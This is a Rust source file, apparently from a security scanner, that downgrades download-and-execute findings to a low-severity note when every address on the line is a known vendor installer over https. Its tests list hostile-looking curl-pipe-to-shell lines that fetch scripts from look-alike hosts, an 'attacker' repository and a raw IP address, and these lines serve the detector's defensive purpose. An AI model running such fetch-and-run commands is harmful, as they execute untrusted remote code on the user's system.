//! Vendors' own installers (issue "precision"): `curl -fsSL https://bun.sh/install | bash`
//! is R-RULE-5's pattern exactly, and it is how Bun, uv, rustup, Homebrew and
//! many others tell people to install them. A download-exec finding whose
//! every address on its line is a known vendor's installer, over https, is
//! kept (R-DEC-6 is unchanged: it still shows and still raises the rating to
//! Caution) but lowered to a low-severity note naming the vendor.
//!
//! The list is data, `crates/engine/data/vendor-installers.tsv`, one vendor
//! address per line with the vendor's page that gives the command. Matching
//! is on the address alone, exactly: an `http://` address, a look-alike host
//! (`bun.sh.evil.io`, `bun-sh.io`), a path under a shared host that is not
//! the vendor's own repository, or a second address on the same line keeps
//! the rule's own severity.

use std::sync::LazyLock;

/// One line of the data file.
#[derive(Debug)]
struct Installer {
    vendor: &'static str,
    /// `https://…`; ends in `/` when it covers the files under it.
    prefix: &'static str,
}

static INSTALLERS: LazyLock<Vec<Installer>> = LazyLock::new(|| {
    include_str!("../../data/vendor-installers.tsv")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .filter_map(|l| {
            let mut cols = l.split('\t');
            let vendor = cols.next()?;
            let prefix = cols.next()?;
            Some(Installer { vendor, prefix })
        })
        .collect()
});

/// The vendor whose installer every address in `line` is, when there is at
/// least one address and all of them are known installers over https.
pub(super) fn vendor_of_line(line: &str) -> Option<&'static str> {
    let mut vendor = None;
    for addr in addresses(line) {
        let v = vendor_of(addr)?;
        if vendor.is_some_and(|known| known != v) {
            return None;
        }
        vendor = Some(v);
    }
    vendor
}

/// The vendor whose installer `addr` is.
fn vendor_of(addr: &str) -> Option<&'static str> {
    INSTALLERS.iter().find(|i| covers(i.prefix, addr)).map(|i| i.vendor)
}

fn covers(prefix: &str, addr: &str) -> bool {
    let Some(rest) = addr.strip_prefix(prefix) else { return false };
    if prefix.ends_with('/') {
        // Files under the vendor's folder, never a way back out of it.
        return !rest.split('/').any(|part| part == "..");
    }
    rest.is_empty() || rest.starts_with('?') || rest == "/"
}

/// Every address written on the line: `scheme://…` up to a space, a quote or
/// a closing bracket, and the bare host forms PowerShell and curl accept
/// (`irm bun.sh/install.ps1`), which are reported as they are written and so
/// never match an https prefix.
fn addresses(line: &str) -> Vec<&str> {
    let end_of = |s: &str| s.find(|c: char| c.is_whitespace() || "\"'`)|;<>".contains(c)).unwrap_or(s.len());
    let mut out = Vec::new();
    let mut rest = line;
    while let Some(i) = rest.find("://") {
        // Back to the scheme's first letter.
        let start = rest[..i].rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+' && c != '.').map_or(0, |p| p + 1);
        let tail = &rest[start..];
        let len = end_of(tail);
        out.push(&tail[..len]);
        rest = &tail[len.max(i - start + 3)..];
    }
    // A download command with no scheme at all (`curl bun.sh/install | sh`,
    // `irm bun.sh/install.ps1 | iex`): an address nobody can check to be https.
    if out.is_empty() && line.split_whitespace().any(looks_like_bare_host) {
        out.push("");
    }
    out
}

/// `host.tld/…` written without a scheme.
fn looks_like_bare_host(word: &str) -> bool {
    let w = word.trim_matches(|c: char| "\"'`()".contains(c));
    let host = w.split('/').next().unwrap_or("");
    host.contains('.')
        && !host.starts_with('.')
        && !host.starts_with('-')
        && host.rsplit('.').next().is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
        && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
        && w.contains('/')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_of_the_data_file_has_a_vendor_an_https_address_and_a_source() {
        let lines: Vec<&str> = include_str!("../../data/vendor-installers.tsv")
            .lines()
            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
            .collect();
        assert!(lines.len() >= 18);
        for l in lines {
            let cols: Vec<&str> = l.split('\t').collect();
            assert_eq!(cols.len(), 3, "{l}");
            assert!(!cols[0].is_empty(), "{l}");
            assert!(cols[1].starts_with("https://") && cols[1].len() > "https://x.y".len(), "{l}");
            assert!(cols[2].starts_with("https://"), "{l}");
        }
        assert_eq!(
            INSTALLERS.len(),
            include_str!("../../data/vendor-installers.tsv")
                .lines()
                .filter(|l| l.starts_with(|c: char| c.is_alphabetic()))
                .count()
        );
    }

    #[test]
    fn a_vendors_own_installer_over_https_names_the_vendor() {
        assert_eq!(vendor_of_line("curl -fsSL https://bun.sh/install | bash"), Some("Bun"));
        assert_eq!(vendor_of_line("curl -LsSf https://astral.sh/uv/install.sh | sh"), Some("Astral (uv)"));
        assert_eq!(vendor_of_line("curl -LsSf https://astral.sh/uv/0.5.1/install.sh | sh"), Some("Astral (uv)"));
        assert_eq!(
            vendor_of_line("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"),
            Some("Rust (rustup)")
        );
        assert_eq!(
            vendor_of_line(
                r#"/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)""#
            ),
            Some("Homebrew")
        );
        assert_eq!(vendor_of_line("powershell -c \"irm https://bun.sh/install.ps1 | iex\""), Some("Bun"));
    }

    #[test]
    fn look_alike_hosts_plain_http_other_paths_and_second_addresses_are_not_vendors() {
        for line in [
            "curl -fsSL http://bun.sh/install | bash",
            "curl -fsSL https://bun.sh.evil.io/install | bash",
            "curl -fsSL https://bun-sh.io/install | bash",
            "curl -fsSL https://bun.sh/install2 | bash",
            "curl -fsSL https://evil.io/?https://bun.sh/install | bash",
            "curl -fsSL https://astral.sh/uv/../../x.sh | sh",
            "curl -fsSL https://raw.githubusercontent.com/Homebrew-tools/install/HEAD/install.sh | bash",
            "curl -fsSL https://raw.githubusercontent.com/attacker/nvm/master/install.sh | bash",
            "curl https://bun.sh/install | bash; curl https://198.51.100.7/x.sh | sh",
            "irm bun.sh/install.ps1 | iex",
            "curl -fsSL 198.51.100.7/setup.sh | sh",
        ] {
            assert_eq!(vendor_of_line(line), None, "{line}");
        }
    }

    #[test]
    fn a_line_without_any_address_names_no_vendor() {
        assert_eq!(vendor_of_line("curl $URL | sh"), None);
        assert_eq!(vendor_of_line(""), None);
    }
}
